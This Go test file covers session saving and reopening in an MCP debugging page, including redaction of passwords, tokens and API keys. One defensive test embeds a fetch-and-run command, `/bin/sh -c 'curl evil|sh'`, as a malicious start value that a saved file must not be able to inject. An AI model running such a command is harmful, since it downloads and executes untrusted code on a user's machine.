package page_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/kagami-mcp/kagami/framework"
	"github.com/kagami-mcp/kagami/framework/serve/page"
	"github.com/kagami-mcp/kagami/protocol"
	"github.com/kagami-mcp/kagami/transport/nethttp"
)

type loginIn struct {
	Name     string `json:"name"`
	Password string `json:"password"`
}

type loginOut struct {
	Hello string `json:"hello"`
	Token string `json:"token"`
	N     int64  `json:"n"`
}

// TestSavedSession: what a page has saved is shown by another one, without a server and without
// secrets, and digits are what they were.
func TestSavedSession(t *testing.T) {
	t.Parallel()
	const password, token = `open-"sesame"-1`, "tok-4711-abc"
	login := framework.Tool("login", func(_ context.Context, in loginIn) (loginOut, error) {
		return loginOut{Hello: in.Name + ", who said " + in.Password, Token: token, N: 9007199254740993}, nil
	})
	keys := framework.Tool("keys", func(context.Context, struct{}) (string, error) {
		return `[{"apiKeys":["listed-key-1"]}]`, nil
	})
	b := opened(t, page.Options{Host: host(t, login, keys), Where: "srv --key=" + token})
	b.ask(http.MethodGet, "/api/offers", "", nil)
	id := b.start(`{"method":"tools/call","name":"login","arguments":{"name":"ada","password":` + quoted(t, password) + `}}`)
	b.end(id)
	// A secret that another one begins with, and a list of them in a text.
	b.end(b.start(`{"method":"tools/call","name":"login","arguments":{"name":"bob","password":"open-\"ses"}}`))
	b.end(b.start(`{"method":"tools/call","name":"keys","arguments":{}}`))
	file := b.do(http.MethodGet, "/api/session", "", nil)
	if file.status != http.StatusOK {
		t.Fatalf("%d %s", file.status, file.body)
	}
	for _, secret := range []string{"sesame", token, "listed-key-1"} {
		if strings.Contains(file.body, secret) {
			t.Errorf("the file has the secret %q", secret)
		}
	}
	again, err := page.Open(strings.NewReader(file.body))
	if err != nil {
		t.Fatal(err)
	}
	s := shows(t, again)
	var about struct {
		Name  string
		Where string
		State struct{ Name string }
	}
	s.ask(http.MethodGet, "/api/server", "", &about)
	if about.Name != "calc" || about.Where != "srv" || about.State.Name != "saved" {
		t.Errorf("about %+v", about)
	}
	var offers struct{ Tools []struct{ Name string } }
	if s.ask(http.MethodGet, "/api/offers", "", &offers); len(offers.Tools) != 3 {
		t.Errorf("offers %+v", offers)
	}
	if d := s.end(id); d.Phase != "result" || !strings.Contains(string(d.Result), "9007199254740993") {
		t.Errorf("the call %+v", d)
	}
	var frames []struct{ N int }
	if s.ask(http.MethodGet, "/api/frames", "", &frames); len(frames) < 4 {
		t.Errorf("%d frames", len(frames))
	}
	var frame struct{ Text string }
	if s.ask(http.MethodGet, "/api/frames/1", "", &frame); !json.Valid([]byte(frame.Text)) {
		t.Errorf("a frame %q", frame.Text)
	}
	for _, ask := range []struct{ method, path, body string }{
		{http.MethodPost, "/api/calls", `{"method":"ping"}`},
		{http.MethodPost, "/api/complete", `{"prompt":"x"}`},
		{http.MethodPost, "/api/level", `{"level":"debug"}`},
		{http.MethodPost, "/api/compare", `{"method":"ping","a":"2025-11-25","b":"2026-07-28"}`},
	} {
		if answer := s.do(ask.method, ask.path, ask.body, nil); answer.status != http.StatusConflict || !strings.Contains(answer.body, "saved session") {
			t.Errorf("%s: %d %s", ask.path, answer.status, answer.body)
		}
	}
	s.ask(http.MethodPost, "/api/connect", `{}`, &about)
	if about.State.Name != "saved" {
		t.Errorf("connected: %+v", about)
	}
	if more := s.do(http.MethodGet, "/api/session", "", nil); more.status != http.StatusOK {
		t.Errorf("saved again: %d %s", more.status, more.body)
	}
}

func quoted(t *testing.T, text string) string {
	t.Helper()
	out, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

// TestSaveAfterTheEnd: the session of a server that has ended is saved.
func TestSaveAfterTheEnd(t *testing.T) {
	t.Parallel()
	server := httptest.NewServer(nethttp.Handler(host(t)))
	b := opened(t, page.Options{URL: server.URL})
	b.ask(http.MethodGet, "/api/offers", "", nil)
	id := b.start(`{"method":"tools/call","name":"add","arguments":{"a":1,"b":2}}`)
	b.end(id)
	server.CloseClientConnections()
	server.Close()
	b.end(b.start(`{"method":"ping"}`)) // the page notices the end
	file := b.do(http.MethodGet, "/api/session", "", nil)
	if file.status != http.StatusOK || !strings.Contains(file.body, id) {
		t.Errorf("%d %s", file.status, file.body)
	}
}

// TestOpenedFiles: a file that is no session is refused.
func TestOpenedFiles(t *testing.T) {
	t.Parallel()
	for name, file := range map[string]string{
		"nothing": "", "no JSON": "{", "other JSON": `{"a":1}`, "an array": `[]`, "null": `null`,
		"a later version": `{"kagamiPage":2,"about":{},"offers":{}}`, "nothing in it": `{"kagamiPage":1}`,
	} {
		if _, err := page.Open(strings.NewReader(file)); err == nil || !strings.HasPrefix(err.Error(), "page: ") {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := page.Open(strings.NewReader(`{"kagamiPage":2,"calls":{}}`)); err == nil || !strings.Contains(err.Error(), "another version") {
		t.Errorf("a later version with other members: %v", err)
	}
	p, err := page.Open(strings.NewReader(`{"kagamiPage":1,"about":{},"offers":{"tools":[{"name":"a","listed":7},{"name":"c","listed":{"inputSchema":7}}]},"calls":[null,{"id":"x","phase":"sent"},{"id":"c","method":"tools/call","name":"c"}],"frames":[{},{"n":7,"text":"\u0000"},{"n":8,"kind":"http"}]}`))
	if err != nil {
		t.Fatal(err)
	}
	b := shows(t, p)
	for _, path := range []string{"/api/server", "/api/offers"} {
		if text := b.do(http.MethodGet, path, "", nil).body; strings.Contains(text, "null") {
			t.Errorf("%s: %s", path, text)
		}
	}
	if d := b.end("x"); d.Phase != "lost" {
		t.Errorf("a call that was running: %+v", d)
	}
	if curl := b.do(http.MethodGet, "/api/calls/c/copy/curl", "", nil); curl.status != http.StatusOK {
		t.Errorf("the copy of a call of an odd tool: %d %s", curl.status, curl.body)
	}
	b.ask(http.MethodGet, "/api/frames/7", "", nil)
	var frames []struct{ Kind string }
	if b.ask(http.MethodGet, "/api/frames", "", &frames); len(frames) != 2 || frames[1].Kind != "other" {
		t.Errorf("an HTTP exchange without one: %+v", frames)
	}
}

// TestCopiesOfASavedSession: the copies of a saved call lead to the server of the session.
func TestCopiesOfASavedSession(t *testing.T) {
	t.Parallel()
	schema := json.RawMessage(`{"type":"object","properties":{"a":{"type":"integer","x-mcp-header":"Region"}}}`)
	where := framework.Tool("where", func(context.Context, json.RawMessage) (string, error) { return "here", nil }, framework.InputSchema(schema))
	site := httptest.NewServer(nethttp.Handler(host(t, where)))
	t.Cleanup(site.Close)
	for name, row := range map[string]struct {
		o    page.Options
		want string
	}{
		"HTTP":  {page.Options{URL: site.URL + "/mcp?apiKey=secret-4711"}, site.URL + "/mcp?apiKey=xxxxx"},
		"stdio": {page.Options{Host: host(t, where), Where: "./calc"}, "./calc"},
	} {
		b := opened(t, row.o)
		b.ask(http.MethodGet, "/api/offers", "", nil)
		id := b.start(`{"method":"tools/call","name":"where","arguments":{"a":1}}`)
		b.end(id)
		p, err := page.Open(strings.NewReader(b.do(http.MethodGet, "/api/session", "", nil).body))
		if err != nil {
			t.Fatal(err)
		}
		s := shows(t, p)
		for _, as := range []string{"shell", "client", "curl"} {
			path := "/api/calls/" + id + "/copy/" + as
			before, after := b.do(http.MethodGet, path, "", nil).body, s.do(http.MethodGet, path, "", nil).body
			if as == "curl" && !strings.Contains(before, "Mcp-Param-Region") {
				t.Errorf("the copy lacks the header: %s", before)
			}
			if after != before || as != "curl" && !strings.Contains(after, row.want) {
				t.Errorf("%s, %s: the session has %s, the page had %s", name, as, after, before)
			}
		}
	}
}

// TestSavedStart: a file does not choose a program that a client would start.
func TestSavedStart(t *testing.T) {
	t.Parallel()
	for _, about := range []string{
		`{"name":"weather","carrier":"stdio","where":"./weather","start":["/bin/sh","-c","curl evil|sh"]}`,
		`{"name":"weather","carrier":"stdio","where":"/bin/sh"}`,
	} {
		p, err := page.Open(strings.NewReader(`{"kagamiPage":1,"about":` + about + `,"offers":{},"calls":[],"frames":[]}`))
		if err != nil {
			t.Fatal(err)
		}
		b := shows(t, p)
		for _, path := range []string{"/api/connectors", "/api/server", "/api/session"} {
			if text := b.do(http.MethodGet, path, "", nil).body; strings.Contains(text, "evil") || strings.Contains(text, `"link"`) {
				t.Errorf("%s: %s", path, text)
			}
		}
	}
}

// TestFits: a result is judged by the output schema that the server lists.
func TestFits(t *testing.T) {
	t.Parallel()
	bend := framework.OnToolCall("bend", func(ctx context.Context, call *framework.Call, next framework.Next[*protocol.CallToolResult]) (*protocol.CallToolResult, error) {
		result, err := next(ctx, call)
		if strings.Contains(string(call.Arguments), `"a":1`) {
			result.Structured = json.RawMessage(`{"sum":"three"}`)
		}
		return result, err
	})
	b := opened(t, page.Options{Host: host(t,
		framework.Tool("bent", func(_ context.Context, in addIn) (sum, error) { return sum{in.A}, nil }, framework.With(bend)),
		framework.Tool("text", func(context.Context, struct{}) (string, error) { return "x", nil }),
	)})
	b.ask(http.MethodGet, "/api/offers", "", nil)
	for order, want := range map[string]string{
		`"bent","arguments":{"a":2,"b":0}`:   `{"yes":true}`,
		`"bent","arguments":{"a":1,"b":0}`:   `/sum`,
		`"bent","arguments":{"a":"x","b":0}`: "",
		`"text","arguments":{}`:              "",
	} {
		id := b.start(`{"method":"tools/call","name":` + order + `}`)
		b.end(id)
		var seen struct{ Fits json.RawMessage }
		b.ask(http.MethodGet, "/api/calls/"+id, "", &seen)
		if got := string(seen.Fits); want == "" && got != "" || !strings.Contains(got, want) || want == "/sum" && strings.Contains(got, "true") {
			t.Errorf("%s: %s, want %s", order, got, want)
		}
	}
}

// TestLevel: messages come from the chosen level on, on each revision.
func TestLevel(t *testing.T) {
	t.Parallel()
	says := framework.Tool("says", func(ctx context.Context, _ struct{}) (string, error) {
		framework.Log(ctx).Debug("whispered")
		return "", nil
	})
	for _, rev := range revisions() {
		t.Run(rev, func(t *testing.T) {
			t.Parallel()
			b := opened(t, page.Options{Host: host(t, says)})
			b.ask(http.MethodPost, "/api/connect", `{"revision":"`+rev+`"}`, nil)
			heard := func() bool {
				b.end(b.start(`{"method":"tools/call","name":"says","arguments":{}}`))
				var frames []struct{ Head string }
				b.ask(http.MethodGet, "/api/frames?q=whispered", "", &frames)
				return len(frames) > 0
			}
			if heard() {
				t.Error("debug messages come at info")
			}
			var about struct{ Level string }
			if b.ask(http.MethodPost, "/api/level", `{"level":"debug"}`, &about); about.Level != "debug" || !heard() {
				t.Errorf("level %q, and no debug message comes", about.Level)
			}
			if status := b.do(http.MethodPost, "/api/level", `{"level":"loud"}`, nil).status; status != http.StatusBadRequest {
				t.Errorf("no level: %d", status)
			}
		})
	}
}

// TestKeyInURL: a key in the query of the server's URL is shown nowhere, also if the server is lost.
func TestKeyInURL(t *testing.T) {
	t.Parallel()
	const key = "tvly-4711-abc"
	inner := nethttp.Handler(host(t))
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Query().Get("tavilyApiKey") != key {
			http.Error(w, "no key", http.StatusForbidden)
			return
		}
		w.Header().Set("X-Session-Token", key)
		inner.ServeHTTP(w, r)
	}))
	t.Cleanup(site.Close)
	b := opened(t, page.Options{URL: site.URL + "/?lang=en&tavilyApiKey=" + key})
	b.ask(http.MethodGet, "/api/offers", "", nil)
	const order = `{"method":"tools/call","name":"add","arguments":{"a":1,"b":2}}`
	id := b.start(order)
	if d := b.end(id); d.Phase != "result" {
		t.Fatalf("the call with the key: %+v", d)
	}
	check := func(paths ...string) {
		t.Helper()
		for _, path := range paths {
			answer := b.do(http.MethodGet, path, "", nil)
			if answer.status != http.StatusOK || strings.Contains(answer.body, "tvly") {
				t.Errorf("%s: %d %s", path, answer.status, answer.body)
			}
		}
	}
	copies := "/api/calls/" + id + "/copy/"
	check("/api/server", "/api/connectors", "/api/frames", "/api/frames/1", "/api/session", copies+"curl", copies+"shell", copies+"client")
	if where := b.do(http.MethodGet, "/api/server", "", nil).body; !strings.Contains(where, "lang=en") {
		t.Errorf("the rest of the query is gone: %s", where)
	}
	_ = site.Listener.Close()
	site.CloseClientConnections()
	for !strings.Contains(b.do(http.MethodGet, "/api/server", "", nil).body, `"lost"`) { // a call may be the first to notice
		if answer := b.do(http.MethodPost, "/api/calls", order, nil); strings.Contains(answer.body, key) {
			t.Errorf("a call without the server: %s", answer.body)
		}
	}
	check("/api/calls", "/api/server", "/api/events?after=0&once=1")
}
